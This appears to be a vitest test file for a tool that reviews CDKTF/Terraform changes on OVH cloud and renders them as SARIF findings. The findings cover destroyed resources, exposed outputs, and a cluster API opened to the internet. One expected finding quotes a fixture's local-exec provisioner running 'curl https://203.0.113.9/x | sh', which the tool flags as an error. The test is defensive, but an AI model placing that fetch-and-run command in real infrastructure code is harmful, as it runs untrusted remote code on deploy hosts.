import { expect, test } from 'vitest';
import { renderSarif } from '../../../../src/review/render/sarif';
import { pullRequest } from '../../fixtures/pull-request';

interface Result {
  readonly ruleId: string;
  readonly level: string;
  readonly message: { readonly text: string };
  readonly locations: readonly [
    {
      readonly physicalLocation: {
        readonly artifactLocation: { readonly uri: string };
        readonly region?: { readonly startLine: number };
      };
    },
  ];
}

/** `level rule at file:line: message`. */
function saidOf({ ruleId, level, message, locations }: Result): string {
  const { artifactLocation, region } = locations[0].physicalLocation;
  return `${level} ${ruleId} at ${artifactLocation.uri}${region === undefined ? '' : `:${region.startLine}`}: ${message.text}`;
}

test('everything in a report is a result at its line of code or in the output, the dangerous ones first', () => {
  const { runs } = JSON.parse(renderSarif(pullRequest)) as {
    readonly runs: readonly { readonly results: readonly Result[] }[];
  };
  expect(
    runs.flatMap(({ results }) => results.map(saidOf)).join('\n'),
  ).toBe(`error runs-code at examples/orbital/landing-zone.ts:132: data-prod Clusters/main/NodePools/batch: runs a local-exec provisioner: curl https://203.0.113.9/x | sh
error other-provider at cdktf.out/stacks/organization/cdk.tf.json: organization terraform.required_providers: provider ovh is 2.20.0 instead of 2.19.0
error other-provider at cdktf.out/stacks/data-prod/cdk.tf.json: data-prod terraform.required_providers: provider ovh is 2.20.0 instead of 2.19.0
error state-moves at cdktf.out/stacks/data-prod/cdk.tf.json: data-prod terraform.backend: the state moves from local to s3: Terraform finds none there, and would make everything again; keep it with terraform -chdir=cdktf.out/stacks/data-prod state pull > data-prod.tfstate  # in the output of the base; keep it with terraform -chdir=cdktf.out/stacks/data-prod init
error guard-removed at cdktf.out/stacks/data-prod/cdk.tf.json: data-prod output.kubeconfig: its value is no longer hidden (sensitive)
error unread at cdktf.out/stacks/data-prod/cdk.tf.json: data-prod extra.tf: configuration beside what cdktf wrote is new
error resource-destroy at examples/orbital/landing-zone.ts:140: ovh_cloud_project_storage data-prod/Storage/telemetry is destroyed; loses the objects of the bucket
error resource-replace at examples/orbital/landing-zone.ts:129: ovh_cloud_project_kube data-prod/Clusters/main is replaced; depends on private_network_id, known after apply, which waits for data-prod-foundation/Networks/main; loses the etcd data of the cluster: every Kubernetes object that is not in Git
error resource-move at examples/orbital/landing-zone.ts:133: ovh_cloud_project_database data-prod/Databases/catalogue only changed its address, and Terraform would destroy and create it; keep it with resource.moveFromId('ovh_cloud_project_database.Databases_catalog_0A1B2C3D'); would lose the databases and their backups
error change-fails at examples/orbital/landing-zone.ts:140: ovh_cloud_project_storage data-prod/Storage/telemetry: a bucket that holds objects cannot be deleted; empty it first
error access-gained at examples/orbital/landing-zone.ts:127: group data-ops is no longer denied: publicCloudProject:apiovh:delete on this project
error exposure-opened-allow-list at examples/orbital/landing-zone.ts:130: new: API of the cluster main is open to 0.0.0.0/0 (the whole internet)
error place-new at cdktf.out/stacks/data-prod/cdk.tf.json: ovh_cloud_project_storage data-prod/Storage/archive is in BHS (CA), outside the European Union
warning stack-left-behind at cdktf.out/stacks/erp-dev/cdk.tf.json: stack erp-dev is gone from the program; cdktf deploy doesn't destroy it, so 3 resources keep running and costing; to remove it: npx landing-zone destroy erp-dev
warning change-buys at examples/orbital/landing-zone.ts:62: ovh_cloud_project fd-lab/Project: creating it orders a Public Cloud project in the name of the account
warning access-gained at examples/orbital/landing-zone.ts:38: group contractors gains: ldp:apiovh:output/graylog/stream/* on ldp:*, from 203.0.113.0/24, until 2027-03-31
warning exposure-opened-public-address at examples/orbital/landing-zone.ts:64: new: the gateway of network main gets a public address
warning plan-disagrees at cdktf.out/stacks/data-prod/cdk.tf.json: ovh_cloud_project_kube.Clusters_main_1A2B3C4D: the code says replace, the plan says change; private_network_id turned out to be the same after apply
note resource-change at examples/orbital/landing-zone.ts:38: ovh_iam_policy organization/Policies/logs is changed
note resource-change at examples/orbital/landing-zone.ts:131: ovh_cloud_project_kube_nodepool data-prod/Clusters/main/NodePools/batch is changed
note resource-add at examples/orbital/landing-zone.ts:31: ovh_me_identity_group organization/Groups/contractors is created
note resource-add at examples/orbital/landing-zone.ts:130: ovh_cloud_project_kube_iprestrictions data-prod/Clusters/main/ApiAccess is created
note resource-add at examples/orbital/landing-zone.ts:62: ovh_cloud_project fd-lab/Project is created; caused by stack fd-lab is new
note resource-add at examples/orbital/landing-zone.ts:64: ovh_cloud_project_network_private fd-lab/Networks/main is created; caused by stack fd-lab is new
note resource-add at examples/orbital/landing-zone.ts:64: ovh_cloud_project_gateway fd-lab/Networks/main/Gateway is created; caused by stack fd-lab is new
note resource-left-behind at cdktf.out/stacks/erp-dev/cdk.tf.json: ovh_cloud_project_kube erp-dev/Clusters/main is left behind
note resource-left-behind at cdktf.out/stacks/erp-dev/cdk.tf.json: ovh_cloud_project_kube_nodepool erp-dev/Clusters/main/NodePools/erp is left behind
note resource-left-behind at cdktf.out/stacks/erp-dev/cdk.tf.json: ovh_cloud_project_kube_nodepool erp-dev/Clusters/main/NodePools/reports is left behind
note change-note at cdktf.out/stacks/data-prod/cdk.tf.json: protection against destruction is taken away from \`Storage/telemetry\`
note exposure-closed-allow-list at examples/orbital/landing-zone.ts:130: no longer: API of the cluster main is open to 203.0.113.0/28
note address-taken at cdktf.out/stacks/fd-lab/cdk.tf.json: network fd-lab is taken: VLAN 123, 10.20.40.0/22
note address-freed at cdktf.out/stacks/erp-dev/cdk.tf.json: network erp-dev is freed: VLAN 141, 10.22.4.0/22
note place-new at cdktf.out/stacks/fd-lab/cdk.tf.json: ovh_cloud_project_network_private fd-lab/Project is in EU-WEST-PAR (FR)
note place-new at cdktf.out/stacks/fd-lab/cdk.tf.json: ovh_cloud_project_network_private fd-lab/Networks/main is in EU-WEST-PAR (FR)
note place-new at cdktf.out/stacks/fd-lab/cdk.tf.json: ovh_cloud_project_network_private fd-lab/Networks/main/Gateway is in EU-WEST-PAR (FR)
note differs at cdktf.out/stacks/data-prod/cdk.tf.json: data-prod Account: data source is new
note differs at cdktf.out/stacks/data-prod/cdk.tf.json: data-prod output.url: output differs`);
});
